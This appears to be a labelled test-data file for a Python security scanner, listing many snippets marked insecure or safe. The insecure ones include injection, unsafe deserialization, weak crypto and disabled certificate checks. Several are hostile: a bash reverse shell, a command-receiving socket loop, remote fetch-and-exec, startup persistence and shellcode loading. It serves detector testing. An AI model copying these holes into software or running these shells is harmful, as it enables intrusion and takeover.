#+ eval of a form field
from flask import request
def calc():
    return eval(request.form["expr"])
#+ eval with emptied builtins
def calc(text):
    return eval(text, {"__builtins__": {}}, {})
#+ interactive console
import code
code.interact(local=globals())
#+ os.system concatenated argv
import os, sys
os.system("rm -f " + sys.argv[1])
#+ os.popen formatted
import os
def disk(path):
    return os.popen("du -sh {}".format(path)).read()
#+ Popen with joined list
import subprocess
def build(args):
    subprocess.Popen(" ".join(["make"] + args), shell=True)
#+ shell decided by a name
import subprocess
USE_SHELL = True
def go(cmd):
    subprocess.call(cmd, shell=USE_SHELL)
#+ cmd.exe
import subprocess
def go(cmd):
    subprocess.run(["cmd.exe", "/c", cmd])
#+ execv from a request
import os
from flask import request
def go():
    os.execv(request.args["program"], ["x"])
#+ spawn of a parameter
import os
def go(program):
    os.spawnl(os.P_WAIT, program, program)
#+ startfile
import os
def go(path):
    os.startfile(path)
#+ paramiko command
def go(ssh, name):
    ssh.exec_command("cat /var/log/" + name)
#+ dill loads
import dill
def go(data): return dill.loads(data)
#+ Unpickler
import pickle
def go(f): return pickle.Unpickler(f).load()
#+ cookie to pickle
import base64, pickle
from flask import request
def go(): return pickle.loads(base64.b64decode(request.cookies["s"]))
#+ yaml full loader
import yaml
def go(t): return yaml.load(t, yaml.FullLoader)
#+ ruamel unsafe
from ruamel.yaml import YAML
y = YAML(typ="unsafe")
#+ faiss
from langchain.vectorstores import FAISS
def go(e): return FAISS.load_local("x", e, allow_dangerous_deserialization=True)
#+ tar in a loop
import tarfile
def go(p):
    t = tarfile.open(p)
    for m in t.getmembers():
        t.extract(m, "out")
#+ unpack_archive
import shutil
def go(p): shutil.unpack_archive(p, "out")
#+ umask
import os
os.umask(0)
#+ mkdir 0o757
import os
os.makedirs("x", mode=0o757)
#+ http server everywhere
from http.server import HTTPServer, BaseHTTPRequestHandler
HTTPServer(("", 8000), BaseHTTPRequestHandler).serve_forever()
#+ uvicorn everywhere
import uvicorn
uvicorn.run("app:app", host="0.0.0.0", port=80)
#+ pop3
import poplib
def go(u, p):
    m = poplib.POP3("mail.example.com")
    m.user(u)
    m.pass_(p)
#+ basic auth over http
import requests
def go(u, p): return requests.get("http://api.example.com/x", auth=(u, p), timeout=3)
#+ sha1
import hashlib
def sign(d): return hashlib.sha1(d).digest()
#+ md5 aliased
from hashlib import md5 as h
def sign(d): return h(d).hexdigest()
#+ cryptography md5
from cryptography.hazmat.primitives import hashes
hashes.Hash(hashes.MD5())
#+ werkzeug plain
from werkzeug.security import generate_password_hash
def go(p): return generate_password_hash(p, method="md5")
#+ blowfish
from Crypto.Cipher import Blowfish
def go(k): return Blowfish.new(k, Blowfish.MODE_CBC)
#+ modes.ECB
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
def go(k): return Cipher(algorithms.AES(k), modes.ECB())
#+ hard-coded key
from Crypto.Cipher import AES
def go(nonce): return AES.new(b"sixteen byte key", AES.MODE_GCM, nonce)
#+ rsa 512
from Crypto.PublicKey import RSA
RSA.generate(512)
#+ session id
import random
def new_session():
    session_id = random.getrandbits(64)
    return session_id
#+ reset code
import random
class User:
    def start_reset(self):
        self.reset_code = str(random.randint(0, 999999))
#+ uuid1 token
import uuid
api_token = uuid.uuid1().hex
#+ httpx verify
import httpx
httpx.Client(verify=False)
#+ urllib3 cert none
import urllib3
urllib3.PoolManager(cert_reqs="CERT_NONE")
#+ mongo
from pymongo import MongoClient
MongoClient("mongodb://x", tlsAllowInvalidCertificates=True)
#+ ssl v3
import ssl
ssl.wrap_socket(None, ssl_version=ssl.PROTOCOL_SSLv3)
#+ known_hosts none
import asyncssh
async def go(): return await asyncssh.connect("h", known_hosts=None)
#+ ssh option
import subprocess
subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "host", "ls"])
#+ sql join of conditions
def go(cursor, filters):
    where = " AND ".join(f"{k} = '{v}'" for k, v in filters.items())
    cursor.execute("SELECT * FROM t WHERE " + where)
#+ sql insert
def go(db, name, age):
    db.execute("INSERT INTO people VALUES ('" + name + "', " + str(age) + ")")
#+ asyncpg
async def go(conn, name):
    return await conn.fetch(f"SELECT * FROM t WHERE n = '{name}'")
#+ pandas sql
import pandas as pd
def go(conn, name):
    return pd.read_sql(f"SELECT * FROM t WHERE n = '{name}'", conn)
#+ django extra
def go(qs, name):
    return qs.extra(where=["name = '%s'" % name])
#+ django rawsql
from django.db.models.expressions import RawSQL
def go(qs, name):
    return qs.annotate(v=RawSQL("select col from t where o = '%s'" % name, ()))
#+ statement from a request
from flask import request
def go(cursor):
    cursor.execute(request.args["q"])
#+ markup of a variable
from markupsafe import Markup
def go(bio): return Markup("<p>%s</p>" % bio)
#+ autoescape off
import jinja2
e = jinja2.Environment(autoescape=False)
#+ template of a parameter
from jinja2 import Template
def go(source): return Template(source).render()
#+ django response
from django.http import HttpResponse
def view(request):
    return HttpResponse("<b>" + request.GET["q"] + "</b>")
#+ minidom
from xml.dom import minidom
def go(t): return minidom.parseString(t)
#+ sax features
import xml.sax
from xml.sax.handler import feature_external_ges
p = xml.sax.make_parser()
p.setFeature(feature_external_ges, True)
#+ lxml parse
from lxml import etree
def go(data): return etree.fromstring(data)
#+ send_file
from flask import request, send_file
def go(): return send_file("/data/" + request.args["f"])
#+ fastapi path
from fastapi import FastAPI
app = FastAPI()
@app.get("/f/{name}")
def read(name: str):
    return open(f"/data/{name}").read()
#+ django delete
import os
def view(request):
    os.remove("/data/" + request.POST["f"])
#+ ssrf urlopen
from urllib.request import urlopen
from flask import request
def go(): return urlopen(request.args.get("u")).read()
#+ ssrf host
import requests
from flask import request
def go(): return requests.get(f"http://{request.args['h']}/x", timeout=3)
#+ debugger
from werkzeug.serving import run_simple
def go(app): run_simple("localhost", 80, app, use_debugger=True)
#+ flask debug attribute
from flask import Flask
app = Flask(__name__)
app.debug = True
#+ jwt none
import jwt
jwt.encode({"a": 1}, None, algorithm="none")
#+ csrf off
from flask import Flask
app = Flask(__name__)
app.config["WTF_CSRF_ENABLED"] = False
#+ cookie flags
def go(response, token):
    response.set_cookie("session", token, secure=False, httponly=False)
#+ assert permission
def go(user, doc):
    assert user.has_perm("docs.delete"), "no"
    doc.delete()
#+ pattern from a request
import re
from flask import request
def go(text): return re.search(request.args["p"], text)
#+ nested stars
import re
P = re.compile(r"^(\w*)*$")
#+ bash reverse shell
import subprocess
subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"])
#+ received commands
import socket, subprocess
s = socket.socket()
s.connect(("10.0.0.1", 9))
while True:
    subprocess.run(s.recv(1024).decode(), shell=True)
#+ fetched file started
import os, urllib.request
urllib.request.urlretrieve("http://x.example/a.exe", "a.exe")
os.startfile("a.exe")
#+ fetch and exec with urllib
from urllib.request import urlopen
exec(urlopen("http://x.example/a.py").read())
#+ startup file
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("python x.py &\n")
#+ run key
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")
#+ shellcode
import ctypes
def go(code):
    p = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(p, code, len(code))
#+ setup downloads
import urllib.request
from setuptools import setup
urllib.request.urlopen("http://x.example/ping").read()
setup(name="x")
#- eval of nothing
class Model:
    def evaluate(self): return 1
Model().evaluate()
#- constant shell-less
import subprocess
subprocess.check_output(["git", "rev-parse", "HEAD"])
#- args from user in a list
import subprocess, sys
subprocess.run(["grep", "-r", sys.argv[1], "."], check=True)
#- shlex split
import shlex, subprocess
def go(line): subprocess.run(shlex.split(line), check=True)
#- restart
import os, sys
os.execv(sys.executable, [sys.executable] + sys.argv)
#- json web
from flask import request
def go(): return request.get_json()["x"]
#- pickle to own file
import pickle
def save(o):
    with open("c.pkl", "wb") as f:
        pickle.dump(o, f)
#- yaml dump
import yaml
def go(o): return yaml.dump(o)
#- csafe loader
import yaml
def go(t): return yaml.load(t, Loader=yaml.CSafeLoader)
#- ruamel safe
from ruamel.yaml import YAML
y = YAML(typ="safe")
#- torch save
import torch
def go(m): torch.save(m, "x.pt")
#- tar create
import tarfile
with tarfile.open("x.tar", "w") as t:
    t.add("a")
#+ tar members that are files, wherever they lead
import tarfile
def go(p):
    with tarfile.open(p) as t:
        t.extractall("out", members=[m for m in t.getmembers() if m.isfile()])
#- zip read
import zipfile
def go(p):
    with zipfile.ZipFile(p) as z:
        return {n: z.read(n) for n in z.namelist()}
#- mkstemp
import tempfile
fd, name = tempfile.mkstemp()
#- makedirs
import os
os.makedirs("x", exist_ok=True)
#- chmod 0o644
from pathlib import Path
Path("x").chmod(0o644)
#- umask 077
import os
os.umask(0o077)
#- bind one address
import socket
s = socket.socket()
s.bind(("192.168.1.5", 80))
#- uvicorn local
import uvicorn
uvicorn.run("app:app", host="127.0.0.1", port=80)
#- pop3 ssl
import poplib
def go(u, p):
    m = poplib.POP3_SSL("mail.example.com")
    m.user(u)
    m.pass_(p)
#- local http
import requests
def go(): return requests.get("http://localhost:8080/health", timeout=3)
#- blake2
import hashlib
def go(d): return hashlib.blake2b(d).hexdigest()
#- sha512 of a file
import hashlib
def go(path):
    with open(path, "rb") as f:
        return hashlib.sha512(f.read()).hexdigest()
#- pbkdf2 many
import hashlib
def go(p, s): return hashlib.pbkdf2_hmac("sha256", p, s, 600_000)
#- bcrypt
import bcrypt
def go(password): return bcrypt.hashpw(password.encode(), bcrypt.gensalt())
#- fernet
from cryptography.fernet import Fernet
def go(key): return Fernet(key)
#- cbc with random iv
import os
from Crypto.Cipher import AES
def go(k): return AES.new(k, AES.MODE_CBC, os.urandom(16))
#- ec key
from cryptography.hazmat.primitives.asymmetric import ec
ec.generate_private_key(ec.SECP256R1())
#- dice
import random
def roll(): return random.randint(1, 6)
#- shuffle cards
import random
deck = list(range(52))
random.shuffle(deck)
#- sample data
import random
rows = [random.gauss(0, 1) for _ in range(10)]
#- uuid4
import uuid
request_id = uuid.uuid4()
#- secrets choice
import secrets, string
password = "".join(secrets.choice(string.ascii_letters) for _ in range(16))
#- verify from config
import requests
def go(config): return requests.get("https://x.example", verify=config.verify, timeout=3)
#- jwt verify keyword elsewhere
def go(form): return form.clean(verify=True)
#- context with own ca
import ssl
c = ssl.create_default_context(cafile="ca.pem")
#- cert required
import ssl
c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
c.verify_mode = ssl.CERT_REQUIRED
c.check_hostname = True
#- known hosts
import asyncssh
async def go(): return await asyncssh.connect("h", known_hosts="hosts")
#- execute many
def go(cursor, rows): cursor.executemany("INSERT INTO t VALUES (?, ?)", rows)
#- percent in like
def go(cursor, q): cursor.execute("SELECT * FROM t WHERE n LIKE ?", ("%" + q + "%",))
#- columns from a list
COLUMNS = ["id", "name"]
def go(cursor): cursor.execute(f"SELECT {', '.join(COLUMNS)} FROM t")
#- column chosen from a list
def go(cursor, column):
    if column not in ("id", "name"):
        raise ValueError(column)
    cursor.execute(f"SELECT * FROM t ORDER BY {column}")
#- psycopg sql
from psycopg2 import sql
def go(cursor, table):
    cursor.execute(sql.SQL("SELECT * FROM {}").format(sql.Identifier(table)))
#- table per tenant
class Repo:
    table = "users"
    def all(self, cursor):
        cursor.execute(f"SELECT * FROM {self.table}")
#- orm
def go(session, User, name): return session.query(User).filter(User.name == name).all()
#- logging of a statement
import logging
def go(name): logging.info(f"select by {name}")
#- english select
def go(name): print(f"Select {name} from the list")
#- update message
def go(n): return f"Update {n} packages"
#- delete message
def go(path): print("Delete from disk: " + path)
#- markup format
from markupsafe import Markup
def go(bio): return Markup("<p>{}</p>").format(bio)
#- render template
from flask import render_template, request
def go(): return render_template("a.html", q=request.args["q"])
#- json answer
from flask import jsonify, request
def go(): return jsonify(q=request.args["q"])
#- plain answer
from flask import Flask, request
app = Flask(__name__)
@app.get("/x")
def x():
    return {"q": request.args["q"]}
#- template file
from jinja2 import Environment, FileSystemLoader
e = Environment(loader=FileSystemLoader("t"), autoescape=True)
t = e.get_template("a.html")
#- lxml hardened
from lxml import etree
def go(d): return etree.fromstring(d, etree.XMLParser(resolve_entities=False, no_network=True))
#- csv read
import csv
def go(p):
    with open(p) as f:
        return list(csv.reader(f))
#- uploads saved by own name
import uuid
from flask import request
def go():
    name = f"/data/{uuid.uuid4().hex}"
    request.files["f"].save(name)
#- send from directory
from flask import request, send_from_directory
def go(): return send_from_directory("/data", request.args["f"])
#- int id in a path
from flask import request
def go():
    number = int(request.args["id"])
    return open(f"/data/{number}.txt").read()
#- fixed url with parameters
import requests
from flask import request
def go(): return requests.get("https://api.example.com/s", params={"q": request.args["q"]}, timeout=3).json()
#- configured url
import os, requests
def go(): return requests.get(os.environ["API_URL"], timeout=3).json()
#- redirect checked
from flask import redirect, request
def go():
    target = request.args["next"]
    if not target.startswith("/"):
        target = "/"
    return redirect(target)
#- debug false from settings
from flask import Flask
app = Flask(__name__)
app.config["DEBUG"] = False
#- logging debug
import logging
logging.basicConfig(level=logging.DEBUG)
#- jwt rs256
import jwt
def go(t, k): return jwt.decode(t, k, algorithms=["RS256"], audience="x")
#- cookie safe
def go(response, token):
    response.set_cookie("session", token, secure=True, httponly=True, samesite="Lax")
#- assert type
def go(x):
    assert isinstance(x, int)
    return x
#- linear pattern
import re
P = re.compile(r"^\d{4}-\d{2}-\d{2}$")
#- escaped pattern
import re
from flask import request
def go(text): return re.search(re.escape(request.args["p"]), text)
#- socket server echo
import socket
s = socket.create_server(("127.0.0.1", 9))
c, _ = s.accept()
c.sendall(c.recv(10))
#- process with pipes
import subprocess
p = subprocess.Popen(["cat"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
#- ctypes library call
import ctypes
lib = ctypes.CDLL("libm.so.6")
lib.cos.restype = ctypes.c_double
print(lib.cos(ctypes.c_double(0)))
#- bashrc read
import os
with open(os.path.expanduser("~/.bashrc")) as f:
    print(f.read())
#- etc passwd listing of users
import pwd
print([u.pw_name for u in pwd.getpwall()])
#- setup reading a readme
from setuptools import setup
setup(name="x", long_description=open("README.md").read())
#- setup version by exec-free regex
import re
from setuptools import setup
version = re.search(r'"(.+)"', open("v.py").read()).group(1)
setup(name="x", version=version)
#- download with a check
import hashlib, urllib.request
data = urllib.request.urlopen("https://x.example/a.bin").read()
if hashlib.sha256(data).hexdigest() == "abc":
    open("a.bin", "wb").write(data)
#- environment passed by name
import os, requests
def go(): return requests.post("https://x.example", json={"region": os.environ["REGION"]}, timeout=3)
